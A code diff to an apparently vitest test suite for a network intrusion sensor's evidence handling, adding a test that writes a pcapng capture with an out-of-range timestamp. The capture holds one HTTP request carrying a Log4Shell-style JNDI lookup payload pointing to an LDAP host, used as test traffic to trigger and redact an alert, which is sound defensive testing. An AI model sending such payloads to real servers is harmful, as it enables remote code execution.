@@ -2,6 +2,8 @@
 import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
+import { framesOf } from '../support/conversation.js';
+import { PcapngWriter } from '../support/pcap-writer.js';
 import { inRoot } from '../support/root.js';
 import { Folder, parseEvents, periscope, type EveEvent } from '../support/sensor.js';
 
@@ -52,6 +54,16 @@ describe('evidence', () => {
     const payload = Buffer.from((alert as unknown as { payload: string }).payload, 'base64').toString('latin1');
     for (const text of [...written, payload]) expect(text).not.toContain('jndi');
     expect(payload).toContain('XXXX');
+  });
+
+  it('is of captures whose times are beyond all years, too', async () => {
+    const directory = folder.at('beyond');
+    const capture = new PcapngWriter().interface({ resolution: 0 });
+    const said = [['>', 'GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: a\r\n\r\n']] as const;
+    for (const { bytes } of framesOf({ serverPort: 80, host: 1, said }))
+      capture.enhanced({ bytes, timeNs: 2n ** 63n * 1_000_000_000n });
+    const [alert] = (await inspect([folder.write('beyond.pcapng', capture.finish())], directory)) as WithFile[];
+    expect(readdirSync(directory)).toEqual([alert!.capture_file]);
   });
 
   it('is off unless asked for', async () => {
